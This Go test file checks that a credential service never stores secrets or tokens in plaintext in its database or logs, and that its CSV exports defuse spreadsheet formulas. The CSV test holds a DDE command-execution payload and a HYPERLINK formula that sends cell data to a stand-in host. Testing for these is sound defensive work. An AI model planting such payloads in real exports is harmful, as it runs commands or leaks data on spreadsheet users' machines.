package handlers_test

import (
	"context"
	"database/sql"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/keyward/keyward/app/store"
)

// atkDBDump returns every value of every row of every table as text, with
// the table and column it came from.
func atkDBDump(t *testing.T, db *store.DB) map[string][]string {
	t.Helper()
	var q string
	if db.IsPostgres() {
		q = "SELECT table_name FROM information_schema.tables WHERE table_schema = current_schema() AND table_type = 'BASE TABLE'"
	} else {
		q = "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'"
	}
	rows, err := db.SQL().Query(q)
	if err != nil {
		t.Fatal(err)
	}
	var tables []string
	for rows.Next() {
		var n string
		if err := rows.Scan(&n); err != nil {
			t.Fatal(err)
		}
		tables = append(tables, n)
	}
	rows.Close()
	out := map[string][]string{}
	for _, tb := range tables {
		r, err := db.SQL().Query("SELECT * FROM " + tb)
		if err != nil {
			t.Fatal(err)
		}
		cols, _ := r.Columns()
		for r.Next() {
			vals := make([]sql.RawBytes, len(cols))
			ptrs := make([]any, len(cols))
			for i := range vals {
				ptrs[i] = &vals[i]
			}
			if err := r.Scan(ptrs...); err != nil {
				t.Fatal(err)
			}
			for i, v := range vals {
				out[tb+"."+cols[i]] = append(out[tb+"."+cols[i]], string(v))
			}
		}
		r.Close()
	}
	return out
}

func atkFindInDump(dump map[string][]string, secret string) []string {
	var where []string
	for col, vals := range dump {
		for _, v := range vals {
			if strings.Contains(v, secret) {
				where = append(where, col)
				break
			}
		}
	}
	return where
}

// TestAttackGuard_NoPlaintextSecretsInDatabaseOrLogs runs the secret-making
// flows (API key create and regenerate, OAuth client registration, secret
// rotation, code, access and refresh tokens, bulk confirmation, report
// webhook secret) with debug logging, sends a Connect JWT in ?jwt=, then
// searches every table and the log for each plaintext.
func TestAttackGuard_NoPlaintextSecretsInDatabaseOrLogs(t *testing.T) {
	forEachAtk(t, func(t *testing.T, e *atkEnv) {
		secrets := map[string]string{"shared secret A": atkSecretA, "shared secret B": atkSecretB}
		k := e.createKey("a", atkUserA, nil)
		secrets["api key"] = k.Secret
		var regen atkIssued
		e.mustOK(e.as("a", atkUserA, "POST", "/api/me/v1/keys/"+k.Key.ID+"/regenerate", map[string]any{"overlapMinutes": 5}), "regenerate", http.StatusOK, &regen)
		secrets["regenerated api key"] = regen.Secret
		id, cs := e.registerClient(map[string]any{})
		secrets["client secret"] = cs
		var rot struct {
			ClientSecret string `json:"clientSecret"`
		}
		e.mustOK(e.as("a", atkAdminA, "POST", "/api/admin/v1/oauth/clients/"+id+"/rotate-secret", nil), "rotate", http.StatusOK, &rot)
		secrets["rotated client secret"] = rot.ClientSecret
		code := e.code(id, "", strings.Repeat("v", 60))
		secrets["auth code"] = code
		st, out := e.token(id, rot.ClientSecret, url.Values{"grant_type": {"authorization_code"}, "code": {code}, "redirect_uri": {atkRedir}, "code_verifier": {strings.Repeat("v", 60)}})
		if st != http.StatusOK {
			t.Fatalf("token: %d %v", st, out)
		}
		secrets["code verifier"] = strings.Repeat("v", 60)
		secrets["access token"] = out["access_token"].(string)
		secrets["refresh token"] = out["refresh_token"].(string)
		st, out = e.token(id, rot.ClientSecret, url.Values{"grant_type": {"refresh_token"}, "refresh_token": {out["refresh_token"].(string)}})
		if st != http.StatusOK {
			t.Fatalf("refresh: %d %v", st, out)
		}
		secrets["refreshed access token"] = out["access_token"].(string)
		secrets["refreshed refresh token"] = out["refresh_token"].(string)
		e.verify(regen.Secret, "GET", "/4/worklogs")
		e.verify(out["access_token"].(string), "GET", "/4/worklogs")
		e.req("POST", "/oauth/introspect", "Bearer "+atkRS, url.Values{"token": {out["access_token"].(string)}})
		var prev struct {
			Confirmation string `json:"confirmation"`
		}
		e.mustOK(e.as("a", atkAdminA, "POST", "/api/admin/v1/credentials/revoke/preview", map[string]any{"all": true}), "preview", http.StatusOK, &prev)
		secrets["confirmation"] = prev.Confirmation
		e.mustOK(e.as("a", atkAdminA, "PUT", "/api/admin/v1/settings/offboarding", map[string]any{"reportWebhookUrl": "https://hooks.example.com/x", "reportWebhookSecret": "report-webhook-secret-0123456789"}), "settings", http.StatusOK, nil)
		secrets["report webhook secret"] = "report-webhook-secret-0123456789"
		jwt := contextToken(t, atkKeyA, atkSecretA, map[string]any{"sub": atkUserA})
		secrets["connect jwt"] = jwt
		e.req("GET", "/api/me/v1/keys?jwt="+jwt, "", nil)
		e.req("GET", "/api/me/v1/keys/nope?jwt="+jwt, "", nil)
		e.req("POST", "/v1/verify", "Bearer "+atkRS, map[string]any{"credential": regen.Secret, "method": "get", "path": "/4"})
		e.req("POST", "/v1/verify", "Bearer wrong-"+atkRS, map[string]any{"credential": regen.Secret, "method": "GET", "path": "/4"})
		secrets["resource server token"] = atkRS
		e.token(id, rot.ClientSecret+"x", url.Values{"grant_type": {"refresh_token"}, "refresh_token": {out["refresh_token"].(string)}})
		e.flushLog()
		if err := e.verifier.FlushUsage(context.Background()); err != nil {
			t.Fatal(err)
		}

		dump := atkDBDump(t, e.db)
		logs := e.logs.String()
		for name, s := range secrets {
			if where := atkFindInDump(dump, s); len(where) > 0 {
				t.Errorf("%s stored in plaintext in %v", name, where)
			}
			if strings.Contains(logs, s) {
				t.Errorf("%s appears in the log", name)
			}
		}
		for _, bad := range []string{"jwt=", "Authorization", "Basic "} {
			if strings.Contains(logs, bad) {
				i := strings.Index(logs, bad)
				t.Errorf("log contains %q: …%s…", bad, logs[max(0, i-80):min(len(logs), i+80)])
			}
		}
		if !strings.Contains(logs, `"level":"debug"`) {
			t.Fatalf("debug logging was not captured")
		}
	})
}

// TestAttackGuard_SignedInstallAndForgeTokenNotStoredInPlaintext installs
// a Connect site through the signed lifecycle and a Forge site with a
// system token, then searches the database and the debug log.
func TestAttackGuard_SignedInstallAndForgeTokenNotStoredInPlaintext(t *testing.T) {
	forEachDialect(t, func(t *testing.T, e *env) {
		p := installPayload(t, "", "")
		e.installOK(p)
		sys := "forge-system-token-plaintext-0123456789abcdef"
		rec := e.do(http.MethodPost, "/forge/ui/whoami", nil, append(bearerHeader(fitToken(t, "fit-1", rsaKey(t, 0), nil)), "x-forge-oauth-system", sys)...)
		if rec.Code != http.StatusOK {
			t.Fatalf("forge whoami: %d %s", rec.Code, rec.Body)
		}
		// A re-install with a new secret.
		p2 := installPayload(t, "", "rotated-shared-secret-0123456789-abcdef")
		e.installOK(p2)
		dump := atkDBDump(t, e.db)
		for name, s := range map[string]string{"shared secret": p["sharedSecret"].(string), "rotated shared secret": "rotated-shared-secret-0123456789-abcdef", "forge system token": sys} {
			if where := atkFindInDump(dump, s); len(where) > 0 {
				t.Errorf("%s stored in plaintext in %v", name, where)
			}
			if strings.Contains(e.logs.String(), s) {
				t.Errorf("%s in the log", name)
			}
		}
	})
}

// TestAttackRegression_CSVExportLeavesFormulaInIPColumn: the exports defuse
// cells a spreadsheet would run as formulas in names, user agents, paths,
// reasons and display names, but not the IP columns (lastUsedIp in the
// credential export, ip in the access log export). The ip of /v1/verify is
// free text up to 64 characters (a resource server passes on what its
// client or proxy said, e.g. X-Forwarded-For), so "=HYPERLINK(...)" lands
// in the admin's spreadsheet as a live formula.
func TestAttackGuard_CSVExportDefusesFormulas(t *testing.T) {
	forEachAtk(t, func(t *testing.T, e *atkEnv) {
		k := e.createKey("a", atkUserA, map[string]any{"name": "=cmd|' /C calc'!A0", "access": "full"})
		payload := `=HYPERLINK("http://x.example/?"&A1,"ok")`
		if v := e.verifyFull(map[string]any{"credential": k.Secret, "method": "GET", "path": "/4/worklogs", "ip": payload, "userAgent": "@SUM(1+1)"}); v["status"] != float64(http.StatusBadRequest) {
			t.Errorf("a formula as ip was accepted by /v1/verify: %v", v)
		}
		e.verifyFull(map[string]any{"credential": k.Secret, "method": "GET", "path": "/4/worklogs", "ip": "203.0.113.9", "userAgent": "@SUM(1+1)"})
		e.flushLog()
		if err := e.verifier.FlushUsage(context.Background()); err != nil {
			t.Fatal(err)
		}
		for _, path := range []string{"/api/admin/v1/export/credentials", "/api/admin/v1/export/access-log"} {
			rec := e.as("a", atkAdminA, "GET", path, nil)
			if rec.Code != http.StatusOK {
				t.Fatalf("%s: %d %s", path, rec.Code, rec.Body)
			}
			rows, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for i, row := range rows[1:] {
				for j, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("%s row %d column %s starts a formula: %q", path, i+1, rows[0][j], cell)
					}
				}
			}
		}
	})
}

var _ = fmt.Sprint
var _ = time.Now
